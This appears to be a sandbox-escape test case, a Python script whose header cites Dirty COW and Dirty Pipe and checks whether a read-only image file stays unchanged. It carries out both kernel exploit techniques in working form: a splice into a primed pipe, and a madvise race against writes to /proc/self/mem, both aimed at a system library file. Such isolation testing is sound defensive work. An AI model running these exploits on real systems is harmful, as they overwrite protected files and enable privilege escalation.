# technique: files of the image changed in the page cache: Dirty COW by madvise and /proc/self/mem, Dirty Pipe by splice
# source: CVE-2016-5195, CVE-2022-0847, CVE-2023-0386
# verdict: WA
# invariant: the image's files stay as they are
# without: seccomp capabilities
import mmap, os, threading

path = "/usr/lib/python3.13/heapq.py"
before = open(path, "rb").read(16)
file = os.open(path, os.O_RDONLY)
read, write = os.pipe()
os.write(write, bytes(65536))
os.read(read, 65536)
try:
    os.splice(file, write, 1, offset_src=0)
    os.write(write, b"LEFT")
except OSError as refused:
    print("held", refused)
page = mmap.mmap(file, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
maps = next(line for line in open("/proc/self/maps") if path in line)
address = int(maps.split("-")[0], 16)
stop = threading.Event()
def drop():
    while not stop.is_set():
        page.madvise(mmap.MADV_DONTNEED)
thread = threading.Thread(target=drop)
thread.start()
with open("/proc/self/mem", "r+b", buffering=0) as memory:
    for _ in range(2000):
        memory.seek(address)
        memory.write(b"LEFT")
stop.set()
thread.join()
print("held" if open(path, "rb").read(16) == before else "LEAKED: the image was changed")
